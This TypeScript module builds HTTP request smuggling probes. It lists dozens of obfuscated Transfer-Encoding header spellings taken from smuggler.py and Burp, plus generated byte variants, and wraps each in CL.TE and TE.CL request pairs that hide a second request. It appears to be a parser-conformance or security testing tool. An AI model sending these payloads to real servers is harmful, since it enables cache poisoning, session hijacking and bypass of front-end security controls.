/**
 * Public lists of spellings of `Transfer-Encoding` that some servers honour and others do not, made from their published rules:
 * smuggler.py (default, exhaustive and doubles) and Burp's HTTP Request Smuggler. Each is sent in the forms CL.TE and TE.CL.
 */
import type { Attack } from './probe.ts';
import { readRequests, targetOf } from './strict.ts';

/** Latin-1 header lines by name. */
export const GADGETS: ReadonlyMap<string, string> = new Map([...named(), ...single(), ...defaults(), ...doubles()]);

const hidden = (id: string): string => `GET /hidden?${id}. HTTP/1.1\r\nHost: a\r\n\r\n`;

export const GADGET_ATTACKS: readonly Attack[] = [...GADGETS].flatMap(([name, line]) => [
  toAttack(`CL.TE ${name}`, (id) => toRequest(id, line, (text) => [`0\r\n\r\n${text}`, undefined])),
  toAttack(`TE.CL ${name}`, (id) =>
    toRequest(id, line, (text) => [`${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`, 4]),
  ),
]);

/** Some lines are legal headers that frame nothing (`Content-Encoding: chunked`): then the requests are the caller's own. */
function toAttack(name: string, bytes: (id: string) => string): Attack {
  const targets = (id: string) => readRequests(bytes(id)).map((message) => ({ target: targetOf(message) }));
  return targets('').length === 0 ? { name, bytes } : { name, bytes, legal: targets };
}

type Framing = (hiddenRequest: string) => readonly [body: string, length: number | undefined];

function toRequest(id: string, line: string, frame: Framing): string {
  const [body, length] = frame(hidden(id));
  return `POST /outer?${id}. HTTP/1.1\r\n${line}\r\nHost: a\r\nContent-Length: ${length ?? body.length}\r\n\r\n${body}`;
}

function named(): readonly (readonly [string, string])[] {
  return Object.entries({
    vanilla: 'Transfer-Encoding: chunked',
    nameprefix1: ' Transfer-Encoding: chunked',
    nameprefix2: 'Foo: bar\r\n Transfer-Encoding: chunked',
    nameprefix3: 'Foo: bar\r\n\tTransfer-Encoding: chunked',
    tabprefix1: 'Transfer-Encoding:\tchunked',
    tabprefix2: 'Transfer-Encoding\t:\tchunked',
    spacejoin1: 'Transfer Encoding: chunked',
    underjoin1: 'Transfer_Encoding: chunked',
    smashed: 'Transfer Encoding:chunked',
    nospace1: 'Transfer-Encoding:chunked',
    space1: 'Transfer-Encoding : chunked',
    valueprefix1: 'Transfer-Encoding:  chunked',
    vertprefix1: 'Transfer-Encoding:\x0bchunked',
    vertwrap: 'Transfer-Encoding: \n\x0bchunked',
    tabwrap: 'Transfer-Encoding: \r\n\tchunked',
    commaCow: 'Transfer-Encoding: chunked, cow',
    cowComma: 'Transfer-Encoding: cow, chunked',
    commaIdentity: 'Transfer-Encoding: chunked, identity',
    identityComma: 'Transfer-Encoding: identity, chunked',
    contentEnc: 'Content-Encoding: chunked',
    linewrapped1: 'Transfer-Encoding:\n chunked',
    gareth1: 'Transfer-Encoding\n : chunked',
    badsetupCR: 'Foo: bar\rTransfer-Encoding: chunked',
    badsetupLF: 'Foo: bar\nTransfer-Encoding: chunked',
    quoted: 'Transfer-Encoding: "chunked"',
    aposed: "Transfer-Encoding: 'chunked'",
    lazygrep: 'Transfer-Encoding: chunk',
    sarcasm: 'TrAnSFer-EnCODinG: cHuNkeD',
    yelling: 'TRANSFER-ENCODING: CHUNKED',
    multiCase: 'tRANSFER-ENCODING: chunked',
    '0dsuffix': 'Transfer-Encoding: chunked\r',
    '0dwrap': 'Foo: bar\r\n\rTransfer-Encoding: chunked',
    '0dspam': 'Tra\rnsfer-Encoding: chunked',
    tabsuffix: 'Transfer-Encoding: chunked\t',
    dualchunk: 'Transfer-Encoding: chunked\r\nTransfer-encoding: identity',
    revdualchunk: 'Transfer-Encoding: cow\r\nTransfer-Encoding: chunked',
    revdualidentity: 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
    nested: 'Transfer-Encoding: cow chunked bar',
    nestedIdentity: 'Transfer-Encoding: identity, chunked, identity',
    spaceFF: 'Transfer-Encoding:\xffchunked',
    unispace: 'Transfer-Encoding:\xa0chunked',
    accentCH: 'Transfer-Encoding: ch\x96nked',
    accentTE: 'Transf\x82r-Encoding: chunked',
    'x-rout': 'X:X\rTransfer-Encoding: chunked',
    'x-nout': 'X:X\nTransfer-Encoding: chunked',
    connection: 'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
    spjunk: 'Transfer-Encoding x: chunked',
    backslash: 'Transfer\\Encoding: chunked',
    encode: 'Transfer-%45ncoding: chunked',
    bodysplit: 'Foo: barn\n\nTransfer-Encoding: chunked',
    h2colon: 'Transfer-Encoding`chunked : chunked',
    h2space: 'Transfer-Encoding chunked : chunked',
  });
}

/** One odd byte in each of four places. */
function single(): [string, string][] {
  return [...bytes(0x00, 0x1f), ...bytes(0x7f, 0xff)].flatMap(([hex, byte]): [string, string][] => [
    [`midspace-${hex}`, `Transfer-Encoding:${byte}chunked`],
    [`postspace-${hex}`, `Transfer-Encoding${byte}: chunked`],
    [`prespace-${hex}`, `${byte}Transfer-Encoding: chunked`],
    [`endspace-${hex}`, `Transfer-Encoding: chunked${byte}`],
  ]);
}

/** Odd bytes around line ends, beside another header. */
function defaults(): [string, string][] {
  const odd = new Set([1, 4, 8, 9, 10, 11, 12, 13, 0x1f, 0x20, 0x7f, 0xa0, 0xff]);
  return [...bytes(0x00, 0xff)]
    .filter((_, code) => odd.has(code))
    .flatMap(([hex, byte]): [string, string][] => [
      [`xprespace-${hex}`, `X: X${byte}Transfer-Encoding: chunked`],
      [`endspacex-${hex}`, `Transfer-Encoding: chunked${byte}X: X`],
      [`rxprespace-${hex}`, `X: X\r${byte}Transfer-Encoding: chunked`],
      [`xnprespace-${hex}`, `X: X${byte}\nTransfer-Encoding: chunked`],
      [`endspacerx-${hex}`, `Transfer-Encoding: chunked\r${byte}X: X`],
      [`endspacexn-${hex}`, `Transfer-Encoding: chunked${byte}\nX: X`],
    ]);
}

/** One odd byte in two of four places. */
function doubles(): [string, string][] {
  return [...bytes(0x01, 0x20), ...bytes(0x7f, 0xff)].flatMap(([hex, byte]): [string, string][] => [
    [`${hex}-${hex}-XX-XX`, `${byte}Transfer-Encoding${byte}: chunked`],
    [`${hex}-XX-${hex}-XX`, `${byte}Transfer-Encoding:${byte}chunked`],
    [`${hex}-XX-XX-${hex}`, `${byte}Transfer-Encoding: chunked${byte}`],
    [`XX-${hex}-${hex}-XX`, `Transfer-Encoding${byte}:${byte}chunked`],
    [`XX-${hex}-XX-${hex}`, `Transfer-Encoding${byte}: chunked${byte}`],
    [`XX-XX-${hex}-${hex}`, `Transfer-Encoding:${byte}chunked${byte}`],
  ]);
}

function bytes(first: number, last: number): (readonly [hex: string, byte: string])[] {
  return Array.from({ length: last - first + 1 }, (_, at) => {
    const code = first + at;
    return [code.toString(16).padStart(2, '0'), String.fromCharCode(code)] as const;
  });
}
